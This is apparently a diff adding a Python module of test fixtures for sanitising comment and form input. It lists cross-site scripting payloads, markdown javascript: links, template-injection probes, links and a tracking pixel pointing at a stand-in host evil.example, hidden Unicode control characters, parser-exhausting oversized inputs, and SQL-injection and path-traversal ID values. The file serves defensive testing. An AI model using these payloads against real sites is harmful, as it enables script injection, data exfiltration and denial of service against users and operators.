@@ -1,0 +1,111 @@
+"""What was tried on forms where strangers and colleagues write: by what it attempts. Harmless as text."""
+
+#: Come out as text, whatever they look like.
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=//evil.example><input name=q></form>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</p></div></section><h1>Throughcare says</h1>",
+    "<!--><script>alert(1)</script>-->",
+    "{{ request.user.email }}{% debug %}{% load static %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](//evil.example)",
+    "[x](https://good.example@evil.example/)",
+    '[x](https://e.example "onmouseover=alert(1)")',
+    "[x](https://e.example/\"onmouseover='alert(1)')",
+    "![x](https://evil.example/pixel.png)",
+    '![x](x"onerror="alert(1))',
+    "<javascript:alert(1)>",
+    '<https://evil.example/"onclick=alert(1)>',
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "```html\n<script>alert(1)</script>\n```",
+    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
+    "# A heading of the site\n\n---\n\n| a | b |\n|---|---|",
+)
+
+#: Refused, with what it is and where it stands.
+HIDDEN_SIGNS = (
+    "right \u202eto left",
+    "isolates \u2066here\u2069",
+    "an Arabic letter mark \u061c",
+    "marks \u200eof\u200f direction",
+    "zero\u200bwidth",
+    "joined\u200dletters",
+    "a soft\u00adhyphen",
+    "\ufeffa byte order mark",
+    "word\u2060joiner",
+    "tags \U000e0041\U000e0042",
+    "a filler \u3164",
+    "null\x00byte",
+    "bell\x07",
+    "escape\x1b[31m",
+    "a C1 control \x9b",
+    "no character \uffff",
+    "private \ue000 use",
+    "a tower z\u0351\u036b\u0343\u036a\u0302\u036b",
+)
+
+#: Refused for their size before anything reads them.
+TOO_MUCH = (
+    "a" * 5_001,
+    "a" * 1_000_000,
+    ">" * 10_000,
+    "> " * 2_000 + "deep",
+    "- " * 2_000 + "deep",
+    "> - " * 1_000 + "deep",
+    ">" * 6 + " six deep",
+    "1. " * 6 + "six deep",
+    " " * 40 + "- far in",
+)
+
+#: Within the limits, and hard on parsers that go back and forth.
+HARD_TO_PARSE = (
+    "*" * 5_000,
+    "[" * 5_000,
+    "`" * 5_000,
+    "<" * 5_000,
+    "&" * 5_000,
+    "\\" * 5_000,
+    "[](" * 1_600,
+    "![[" * 1_600,
+    "**a " * 1_200,
+    "_a*" * 1_600,
+    "`a``b" * 1_000,
+    "- a\n" * 1_250,
+    "> a\n\n" * 800,
+)
+
+#: Tried as the number of a comment, thread or entry.
+IDS = (
+    "0",
+    "-1",
+    "1",
+    "999999999",
+    "1 OR 1=1",
+    "../../etc/passwd",
+    "%00",
+    "null",
+    "00000000-0000-0000-0000-000000000000",
+)
